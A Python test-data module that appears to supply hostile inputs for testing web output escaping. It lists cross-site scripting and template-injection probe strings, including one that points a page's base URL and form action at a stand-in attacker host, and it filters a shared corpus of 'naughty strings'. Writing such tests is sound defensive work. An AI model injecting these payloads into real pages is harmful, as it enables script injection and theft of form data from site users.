"""What people write who would like a page to run it."""

import json
from pathlib import Path

CORPUS = Path(__file__).parents[4] / "shared/testdata/security/blns.json"
OURS = [
    "<script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title></style><svg onload=alert(1)>",
    '" autofocus onfocus=alert(1) x="',
    "javascript:alert(1)",
    "{{ 7 * 7 }}{% raw %}${7*7}<%= 7*7 %>#{7*7}",
    "{0.__class__.__init__.__globals__}",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/><form action=//evil.example><button>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202e<script>\u2028alert(1)</script>",
]


def corpus() -> list[str]:
    """Return what others have collected, as far as it could mean anything to a browser."""
    if not CORPUS.exists():
        return []
    strings: list[str] = json.loads(CORPUS.read_text("utf-8"))
    return [one for one in strings if one.isprintable() and any(sign in one for sign in "<>\"'`{(")]
